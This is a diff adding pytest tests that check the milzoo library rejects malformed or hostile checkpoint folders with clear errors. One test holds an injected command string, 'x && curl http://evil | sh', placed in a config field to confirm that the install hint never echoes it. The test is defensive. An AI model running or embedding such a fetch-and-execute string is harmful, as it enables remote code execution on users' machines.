@@ -1,0 +1,118 @@
+"""Checkpoints and Hub folders from someone else: clear errors, nothing allocated or printed on their word."""
+
+from __future__ import annotations
+
+import json
+import math
+
+import pytest
+import safetensors.torch
+import torch
+from click.testing import CliRunner
+
+from milzoo import checkpoint as ckpt
+from milzoo.build import build_components
+from milzoo.cli import add_all_commands, cli
+from milzoo.errors import CheckpointError
+
+
+def _saved(tmp_path):
+    model = build_components({"name": "mlp", "dims": [4]}, {"name": "abmil", "attn_hidden": 3}, (5,), 2)
+    return ckpt.save_model(model, tmp_path / "m")
+
+
+def _edit(directory, change):
+    path = directory / "config.json"
+    cfg = json.loads(path.read_text())
+    change(cfg)
+    path.write_text(json.dumps(cfg))
+
+
+def test_huge_layer_in_config_is_refused_before_allocating(tmp_path):
+    d = _saved(tmp_path)
+    _edit(d, lambda c: c["encoder"].update(dims=[10**12]))  # 5e12 floats: 20 TB if it were allocated
+    with pytest.raises(CheckpointError, match="wrong shape or dtype.*nothing was allocated"):
+        ckpt.load_model(d)
+
+
+def test_install_hint_never_copies_text_from_the_config(tmp_path):
+    d = _saved(tmp_path)
+
+    def hostile(c):
+        c["pooling"]["name"] = "nonexistent_pool"
+        c["components"]["pooling"]["distribution"] = "x && curl http://evil | sh"
+
+    _edit(d, hostile)
+    with pytest.raises(CheckpointError) as info:
+        ckpt.load_model(d)
+    msg = str(info.value)
+    assert "not a valid distribution name" in msg and "pip install" not in msg
+
+
+def test_unknown_core_encoder_does_not_blame_a_plugin(tmp_path):
+    d = _saved(tmp_path)
+    _edit(d, lambda c: c["encoder"].update(name="nonexistent_encoder"))
+    with pytest.raises(CheckpointError) as info:
+        ckpt.load_model(d)
+    msg = str(info.value)
+    assert "milzoo-abmil" not in msg and "nonexistent_encoder" in msg and "pip install milzoo==" in msg
+
+
+def test_missing_plugin_names_only_that_distribution(tmp_path):
+    d = _saved(tmp_path)
+
+    def gone(c):
+        c["pooling"]["name"] = "gone_pool"
+        c["components"]["pooling"].update(distribution="milzoo-not-installed", version="1.2.3")
+
+    _edit(d, gone)
+    with pytest.raises(CheckpointError, match=r"`pip install milzoo-not-installed==1\.2\.3`"):
+        ckpt.load_model(d)
+
+
+@pytest.mark.parametrize("text, match", [
+    ("[1, 2, 3]", "holds a JSON list"),
+    ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
+    ('"just a string"', "holds a JSON str"),
+])
+def test_config_that_is_not_an_object(tmp_path, text, match):
+    d = _saved(tmp_path)
+    (d / "config.json").write_text(text)
+    with pytest.raises(CheckpointError, match=match):
+        ckpt.load_model(d)
+
+
+@pytest.mark.parametrize("key, value", [("num_classes", -1), ("num_classes", "two"), ("in_shape", [0]),
+                                        ("in_shape", "5"), ("format_version", "x"), ("standardize", "maybe"),
+                                        ("encoder", ["mlp"])])
+def test_config_fields_of_the_wrong_type_or_range(tmp_path, key, value):
+    d = _saved(tmp_path)
+    _edit(d, lambda c: c.update({key: value}))
+    with pytest.raises(CheckpointError, match=f"invalid: .*{key}"):
+        ckpt.load_model(d)
+
+
+def test_nan_weights_are_refused(tmp_path):
+    d = _saved(tmp_path)
+    state = safetensors.torch.load_file(str(d / "model.safetensors"))
+    key = next(k for k in state if k.endswith("weight"))
+    state[key][0, 0] = math.nan
+    safetensors.torch.save_file(state, str(d / "model.safetensors"))
+    with pytest.raises(CheckpointError, match=f"NaN or infinite weights \\({key}"):
+        ckpt.load_model(d)
+
+
+def test_wrong_dtype_is_refused(tmp_path):
+    d = _saved(tmp_path)
+    state = safetensors.torch.load_file(str(d / "model.safetensors"))
+    safetensors.torch.save_file({k: v.to(torch.float64) for k, v in state.items()}, str(d / "model.safetensors"))
+    with pytest.raises(CheckpointError, match="F64 vs model"):
+        ckpt.load_model(d)
+
+
+def test_cli_reports_hostile_configs_without_traceback(tmp_path):
+    add_all_commands()
+    d = _saved(tmp_path)
+    (d / "config.json").write_text("[" * 100_000 + "]" * 100_000)
+    res = CliRunner().invoke(cli, ["export", str(d), str(tmp_path / "out")])
+    assert res.exit_code == 2 and "nested too deeply" in res.output and "Traceback" not in res.output
